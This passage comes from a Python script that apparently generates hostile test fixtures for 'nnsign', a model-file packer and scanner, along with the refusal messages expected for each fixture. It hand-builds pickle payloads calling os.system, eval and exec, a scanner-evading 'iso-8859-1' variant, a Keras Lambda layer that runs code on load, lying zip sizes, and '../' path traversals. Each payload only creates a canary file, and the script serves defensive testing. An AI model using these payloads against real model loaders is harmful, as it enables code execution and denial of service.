    view = i(0) + tup(i(VIEW_LEN)) + tup(i(1)) + b"\x89h\x00)Rt" + b"R" + b"s"
    return (proto(2) + g("collections", "OrderedDict") + b"q\x00)R"
            + s("t0") + g("torch._utils", "_rebuild_tensor_v2") + b"q\x01("
            + g("torch.storage", "_load_from_bytes") + pbytes(storage_stream(numel=VIEW_LEN))
            + b"\x85R" + b"q\x02" + view
            + b"".join(s("t%d" % k) + b"h\x01(h\x02" + view for k in range(1, VIEWS))
            + STOP)


file_case("storage_many_views.pkl",
          "no code: %d tensors, each the whole of one memoized storage of %d int64 (%d KiB): "
          "%d MiB of tensors from a file of about 100 KB"
          % (VIEWS, VIEW_LEN, VIEW_LEN * 8 // 1024, VIEWS * VIEW_LEN * 8 // 2 ** 20),
          many_views, verify=False)
file_case("storage_bytes_iso8859.pkl",
          "a storage stream that calls os.system, its bytes made by _codecs.encode(text, "
          "'iso-8859-1') (the same bytes as 'latin1', the only name pickle writes): a scanner "
          "that decodes only 'latin1' does not see the stream",
          lambda: raw_state_dict(args=tup(pbytes(storage_stream(
              obj=proto(2) + REDUCE_SYSTEM + b"0" + storage_pid() + STOP), "iso-8859-1"))))


# 6. Keras and ONNX.
def _lambda_code():
    fn = eval("lambda x: (open(%r, 'w').close(), x)[1]" % CANARY)  # our own source text
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def _zero_hdf5_data(h5):
    """Zeroes the raw data of every contiguous dataset (found by its version-3 layout message
    in a version-1 object header), keeping the file's structure: weights become zeros."""
    buf = bytearray(h5)
    found = 0
    for m in re.finditer(rb"\x08\x00\x18\x00.\x00\x00\x00\x03\x01", h5, re.S):
        addr, size = struct.unpack_from("<QQ", h5, m.end())
        if 0 < size and addr + size <= len(h5):
            buf[addr:addr + size] = bytes(size)
            found += 1
    assert found >= 4, found
    return bytes(buf)


@case("keras_lambda.keras",
      "model.keras (weights zeroed) with a Keras 3 Lambda layer appended whose marshalled "
      "function creates the canary when called",
      ("keras", None))
def _(p):
    with zipfile.ZipFile(KERAS_SRC) as z:
        config = json.loads(z.read("config.json"))
        metadata = z.read("metadata.json")
        h5 = _zero_hdf5_data(z.read("model.weights.h5"))
    config["config"]["layers"].append({
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": {"module": "keras", "class_name": "DTypePolicy",
                      "config": {"name": "float32"}, "registered_name": None},
            "function": {"class_name": "__lambda__",
                         "config": {"code": _lambda_code(), "defaults": None, "closure": None}},
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 10]},
    })
    write_zip(p, [("metadata.json", metadata),
                  ("config.json", json.dumps(config).encode()),
                  ("model.weights.h5", h5, zipfile.ZIP_DEFLATED)])


@case("keras_weights_size_lies.keras",
      "no code: model.keras with a 100-byte model.weights.h5 whose zip headers claim 4 GiB "
      "from 100 MiB (40:1, under the zip-bomb ratio): memory reserved for the claim, not "
      "for the bytes there, would run out under the suite's 4 GB limit")
def _(p):
    with zipfile.ZipFile(KERAS_SRC) as z:
        config, metadata = z.read("config.json"), z.read("metadata.json")
    write_zip(p, [("metadata.json", metadata), ("config.json", config),
                  ("model.weights.h5", b"x" * 100, zipfile.ZIP_DEFLATED)])

    def claim(buf):
        local, central = entry(buf, "model.weights.h5")
        struct.pack_into("<II", buf, central + 20, 100 << 20, 0xFFFFFFF0)
        struct.pack_into("<II", buf, local + 18, 100 << 20, 0xFFFFFFF0)
    patch(p, claim)


def _onnx_outside(p):
    from onnx import TensorProto, helper
    w = TensorProto()
    w.name, w.data_type = "w", TensorProto.FLOAT
    w.dims.extend([4])
    w.data_location = TensorProto.EXTERNAL
    for k, v in [("location", "../outside.bin"), ("offset", "0"), ("length", "16")]:
        e = w.external_data.add()
        e.key, e.value = k, v
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"], name="add")], "outside",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)],
                              producer_name="nnsign hostile fixtures")
    with open(p, "wb") as f:
        f.write(model.SerializeToString())


if importlib.util.find_spec("onnx"):
    case("onnx_external_outside.onnx",
         "no code: an ONNX Add whose initializer's external data location is '../outside.bin' "
         "(a file outside the model's folder; it is not created)")(_onnx_outside)
else:
    print("onnx is not installed: onnx_external_outside.onnx skipped")


# ---------------------------------------------------------------------------------------------
# What `nnsign pack FILE -o OUT.nns` does with each file, measured (see the module docstring).
# expect_exit None: nnsign's behaviour is judged wrong or weak; `problem` says why.

RAW_PICKLE = "a raw pickle: unpickling runs whatever it names"
GLOBAL = "refused global %s"
OPCODE = "pickle opcode 0x%02x is not one this reader executes"
LOCAL_NAME = 'is named "test/data.txt" in its local header'


def refused(message):
    return {"expect_exit": 1, "expect_message": message}


def problem(message, why):
    return {"expect_exit": None, "expect_message": message, "problem": why}


EXPECT = {
    "opcode_reduce_posix_system.pt": refused(GLOBAL % "posix.system"),
    "opcode_stack_global_eval.pt": refused(GLOBAL % "builtins.eval"),
    "opcode_stack_global_exec.pt": refused(GLOBAL % "builtins.exec"),
    "opcode_inst.pt": refused(OPCODE % 0x69),
    "opcode_obj.pt": refused(GLOBAL % "posix.system"),
    "opcode_newobj.pt": refused(GLOBAL % "builtins.exec"),
    "opcode_newobj_ex.pt": refused(GLOBAL % "builtins.exec"),
    "opcode_build_setstate.pt": refused(GLOBAL % "builtins.exec"),
    "opcode_ext1.pt": refused(OPCODE % 0x82),
    "opcode_ext2.pt": refused(OPCODE % 0x83),
    "opcode_ext4.pt": refused(OPCODE % 0x84),
    "payload_before_state_dict.pt": refused(GLOBAL % "posix.system"),
    "payload_after_state_dict.pt": refused("bytes follow the pickle's end"),
    "pickle_memo_bomb.pt": refused(GLOBAL % "posix.system"),
    "pickle_stack_bomb.pt": refused(GLOBAL % "posix.system"),
    "pickle_deep_nesting.pt": refused("containers nested more than 64 deep"),
    "pickle_clone_bomb.pt": refused("its containers hold far more items than its bytes can describe"),
    "pickle_binunicode8_huge.pt": refused("a length of 4611686018427387904 bytes"),
    "pickle_binbytes8_huge.pt": refused("a length of 4611686018427387904 bytes"),
    "pickle_long4_huge.pt": refused(OPCODE % 0x8b),
    "pickle_frame_lies.pt": refused("a length of 4611686018427387904 bytes, with 145 left"),
    "tensor_offset_past_storage.pt": refused("reaches element 11 of a storage of 8"),
    "tensor_stride_past_storage.pt": refused("reaches element 11 of a storage of 8"),
    "tensor_huge_stride_overflow.pt": refused("its strides overflow"),
    "tensor_negative_stride.pt": refused("its stride holds a negative or non-integer value"),
    "tensor_negative_offset.pt": refused("its offset is not a non-negative integer"),
    "tensor_storage_record_short.pt": refused("storage data/0 holds 32 bytes, 8 I64 elements need 64"),
    "tensor_numel_larger_than_record.pt": refused(
        "storage data/0 holds 64 bytes, 16 I64 elements need 128"),
    "tensor_zero_stride_expansion.pt": refused("more than its storage's 8 (an expanded view)"),
    "tensor_storage_key_traversal.pt": refused(
        "its storage record data/../../../../etc/passwd is missing"),
    "tensor_storage_two_dtypes.pt": refused(
        'storage "0" is used as FloatStorage and as DoubleStorage; torch.load would read it '
        'as one type, so its values are ambiguous'),
    "tensor_storage_two_sizes.pt": refused(
        'storage "0" is used with 8 elements and with 4; torch.load would read it at one '
        'size, so its values are ambiguous'),
    "zip_duplicate_data_pkl.pt": refused("a record appears twice"),
    "zip_traversal_extra_record.pt": refused("is not inside a plain folder"),
    "zip_traversal_folder.pt": refused('record "../data.pkl" is not inside a plain folder'),
    "zip_absolute_name.pt": refused("is not inside a plain folder"),
    "zip_local_name_differs.pt": refused(LOCAL_NAME),
    "zip_local_name_hides_pickle.pt": refused(LOCAL_NAME),
    "zip_encrypted_flag.pt": refused('zip record "test/data.pkl" is encrypted'),
    "zip_bad_crc.pt": refused("Invalid checksum"),
    "zip_deflate_bomb.pt": refused("is compressed; torch.save stores records"),
    # Correct: the nested zip is a u8 tensor's bytes, never opened.
    "zip_nested_archive.pt": {"expect_exit": 0, "expect_message": ""},
    "torchscript_code.pt": refused('unexpected record "test/code/__torch__.py"'),
    "raw_pickle.pkl": refused(RAW_PICKLE),
    "weights.safetensors": refused(RAW_PICKLE),
    "polyglot_pickle.safetensors": refused("invalid safetensors file"),
    "model.npy": refused(RAW_PICKLE),
    "object_array.npy": refused("object array refused"),
    "object_array.npz": refused("object array refused"),
    "legacy_payload_in_sys_info.pt": refused("system info: " + GLOBAL % "posix.system"),
    "legacy_payload_in_object.pt": refused("the object: " + GLOBAL % "posix.system"),
    "legacy_payload_in_storage_keys.pt": refused("storage keys: " + GLOBAL % "posix.system"),
    "legacy_payload_after_storages.pt": refused("56 bytes follow the last storage"),
    "legacy_storage_two_dtypes.pt": refused(
        'the object: persistent id: storage "140001" is used as FloatStorage and as '
        'IntStorage; torch.load would read it as one type'),
    "legacy_storage_count_huge.pt": refused(
        '"140001": 2305843009213693952 elements run past the end of the stream'),
    "raw_state_dict_payload.pkl": refused(GLOBAL % "posix.system"),
    "raw_state_dict_payload_after.pkl": refused("bytes follow the pickle's end"),
    "storage_stream_payload.pkl": refused(
        "_load_from_bytes: its torch.save stream: the object: " + GLOBAL % "posix.system"),
    "storage_stream_nested_twice.pkl": refused(
        "its torch.save stream: the object: " + GLOBAL % "torch.storage._load_from_bytes"),
    "storage_stream_two_dtypes.pkl": refused(
        'its torch.save stream: the object: persistent id: storage "0" is used as '
        'FloatStorage and as LongStorage; torch.load would read it as one type'),
    "storage_stream_not_torch.pkl": refused(
        "its torch.save stream: it does not start with torch's magic number"),
    "storage_stream_short_view.pkl": refused("reaches element 6 of a storage of 6"),
    "storage_stream_count_short.pkl": refused(
        "storage pickled with it holds 32 bytes, 8 I64 elements need 64"),
    "storage_stream_count_huge.pkl": refused(
        '"0": 2305843009213693952 elements run past the end of the stream'),
    "storage_bytes_text.pkl": refused("_load_from_bytes: its argument is not bytes"),
    "storage_bytes_two_args.pkl": refused(
        "_load_from_bytes: takes one argument, a torch.save stream in bytes"),
    "storage_bytes_length_huge.pkl": refused("a length of 4611686018427387904 bytes"),
    "storage_bytes_reloaded.pkl": refused(
        "its torch.save streams add up to more bytes than the file holds"),
    "storage_bytes_iso8859.pkl": refused('_codecs.encode: takes text and "latin1"'),
    "storage_many_views.pkl": refused("add up to more than 8 times the file's"),
    "keras_lambda.keras": refused("a Lambda layer runs arbitrary Python when Keras loads it"),
    "keras_weights_size_lies.keras": refused(
        "model.weights.h5: holds 100 bytes, its header says 4294967280"),
    "onnx_external_outside.onnx": refused(
        'external data location "../outside.bin" leaves the model\'s folder'),
}


# Payloads the framework itself never reaches: `nnsign scan` rightly reports nothing there.
UNREACHED = {
    "zip_nested_archive.pt": "the inner archive is only a tensor's bytes: torch.load never opens it, so nothing in it can run",
    "legacy_payload_after_storages.pt": "torch's legacy loader stops after the last storage, so the trailing pickle never runs; pack refuses the file anyway",
}


def expectations():
    missing = [c["file"] for c in CASES if c["file"] not in EXPECT]
    assert not missing, missing
    return EXPECT


# ---------------------------------------------------------------------------------------------

VERIFY_DRIVER = r'''
import base64, copyreg, io, json, marshal, pickle, sys, types, zipfile
mode, path, arg = sys.argv[1], sys.argv[2], sys.argv[3]
data = open(path, "rb").read()

def load_all(data):
    """Every pickle in `data` in turn, as repeated pickle.load calls (or torch's legacy loader,
    which stops at the storage bytes) would."""
    f = io.BytesIO(data)
    while f.tell() < len(data):
        try:
            Unpickler(f).load()
        except Exception as e:
            print("    (load stopped: %s: %s)" % (type(e).__name__, str(e)[:200]))
            break

# arg "py": Python's own unpickler (pickle._Unpickler), for a pickle CPython's C unpickler
# cannot even allocate for (the memo bomb); else the C one torch.load uses.
class Unpickler(pickle._Unpickler if arg == "py" else pickle.Unpickler):
    # torch.load resolves every global (torch's own and any other); torch is stubbed here,
    # except that a storage's stream is loaded as torch.load(weights_only=False) would.
    def find_class(self, module, name):
        if (module, name) == ("torch.storage", "_load_from_bytes"):
            return load_all
        if module == "torch" or module.startswith("torch."):
            return lambda *a, **k: ("torch stub", module, name)
        return super().find_class(module, name)
    def persistent_load(self, pid):
        return ("storage", pid)

if mode == "ext":
    copyreg.add_extension("posix", "system", int(arg))
if mode in ("pickle", "ext"):
    load_all(data)
elif mode == "keras":
    config = json.loads(zipfile.ZipFile(path).read("config.json"))
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Lambda":
            raw = base64.b64decode(layer["config"]["function"]["config"]["code"])
            fn = types.FunctionType(marshal.loads(raw), {"__builtins__": __builtins__})
            fn(1.0)
'''


def verify(cases):
    failed = []
    for c in cases:
        if not c["verify"]:
            continue
        mode, payload, arg = (tuple(c["verify"]) + (None,))[:3]
        d = tempfile.mkdtemp(prefix="hostile_verify_")
        try:
            src = os.path.join(OUT, c["file"])
            if payload is not None:
                src = os.path.join(d, "payload.bin")
                with open(src, "wb") as f:
                    f.write(payload)
            r = subprocess.run([sys.executable, "-c", VERIFY_DRIVER, mode, src, str(arg)],
                               cwd=d, capture_output=True, text=True, timeout=60)
            fired = os.path.exists(os.path.join(d, CANARY))
            print("  %-36s canary %s" % (c["file"], "created" if fired else "NOT created"))
            if r.stdout.strip():
                print(r.stdout.rstrip())
            if not fired:
                failed.append(c["file"])
                print(r.stderr)
        finally:
            shutil.rmtree(d)
    return failed


def legacy_quadratic(keys, padding):
    """A legacy torch.save file: `padding` empty tuples, then `keys` scalar tensors each on its
    own empty storage, the keys listed, and each storage's zero count."""
    parts, _ = legacy_parts()
    o = (proto(2) + g("collections", "OrderedDict") + b"q\x00)R"
         + s("pad") + b"](" + b")" * padding + b"e" + b"s"
         + g("torch._utils", "_rebuild_tensor_v2") + b"q\x01" + b"0"
         + g("torch", "ByteStorage") + b"q\x02" + b"0")
    for j in range(keys):
        o += (s("t%d" % j) + b"h\x01((" + s("storage") + b"h\x02" + s("%d" % j) + s("cpu")
              + b"K\x00Nt" + b"Q" + b"K\x00" + b"(t(t" + b"\x89h\x00)Rt" + b"R" + b"s")
    listed = proto(2) + b"](" + b"".join(s("%d" % j) for j in range(keys)) + b"e" + STOP
    return b"".join(parts[:3]) + o + STOP + listed + struct.pack("<q", 0) * keys


def write_large(d):
    """Scaled-up variants of the resource cases, for measuring (not fixtures: too large or
    too slow for a test suite). What nnsign did with them is in cases.json's problems."""
    os.makedirs(d, exist_ok=True)
    files = {
        # 148 KB: a debug build peaked at 5.5 GB RSS, 18 s.
        "large_clone_bomb.pt": lambda p: torch_zip(p, clone_bomb(50000, 14000)),
        # 814 bytes: a debug build packed a 512 MiB tensor, 19 s, 543 MB RSS.
        "large_zero_stride_2e26.pt": lambda p: torch_zip(
            p, state_dict(size=(1 << 26,), stride=(0,))),
        # 814 bytes: debug build panics (multiply overflow), release would loop 2^61 times.
        "large_zero_stride_2e61.pt": lambda p: torch_zip(
            p, state_dict(size=(1 << 61,), stride=(0,))),
        # 700 KB: 5000 storage keys each looked up by a scan of 300,000 objects; 46 s (debug).
        "large_legacy_key_lookup.pt": lambda p: open(p, "wb").write(
            legacy_quadratic(5000, 300000)),
    }
    for name, build in files.items():
        build(os.path.join(d, name))
        print("  %s (%d bytes)" % (os.path.join(d, name), os.path.getsize(os.path.join(d, name))))


def main():
    if "--large" in sys.argv[1:]:
        d = sys.argv[sys.argv.index("--large") + 1]
        print("writing scaled-up resource cases to", d)
        write_large(d)
        return
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    for c in CASES:
        path = os.path.join(OUT, c["file"])
        c["build"](path)
        # Check that every pickle disassembles (or say why it cannot: that may be the point).
        if c["verify"] and c["verify"][0] in ("pickle", "ext") and c["verify"][1] is not None:
            try:
                pickletools.dis(c["verify"][1], out=io.StringIO())
            except Exception as e:
                print("  %s: pickletools cannot disassemble it (%s)" % (c["file"], str(e)[:200]))
    exp = expectations()
    out = []
    for c in CASES:
        e = exp.get(c["file"], {"expect_exit": None, "expect_message": "", "problem": "not measured"})
        item = {"file": c["file"], "what": c["what"], "expect_exit": e["expect_exit"],
                "expect_message": e["expect_message"]}
        if "problem" in e:
            item["problem"] = e["problem"]
        item["code_payload"] = bool(c["verify"]) and c["file"] not in UNREACHED
        if c["file"] in UNREACHED:
            item["note"] = UNREACHED[c["file"]]
        out.append(item)
    about = (
        "Hostile inputs for `nnsign pack FILE -o OUT.nns`, written by "
        "scripts/make_hostile_fixtures.py. Run nnsign in an empty temporary working directory: "
        "a file named %r must never appear there (every code payload would create it; "
        "code_payload says which files carry one). expect_exit and expect_message (a substring "
        "of stderr) are what nnsign printed when the fixtures were made; expect_exit null marks "
        "a case where that behaviour is judged wrong or weak, explained in problem (for those "
        "too, the canary must not appear)." % CANARY)
    with open(os.path.join(OUT, "cases.json"), "w") as f:
        json.dump({"about": about, "canary": CANARY, "cases": out}, f, indent=1)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(OUT, n)) for n in os.listdir(OUT))
    print("wrote %d cases to %s, %d bytes in all" % (len(CASES), os.path.relpath(OUT), total))
    if "--verify" in sys.argv[1:]:
        print("verifying that each code payload creates the canary when Python loads it:")
        failed = verify(CASES)
        if failed:
            sys.exit("payloads that did not fire: %s" % ", ".join(failed))


if __name__ == "__main__":
    main()
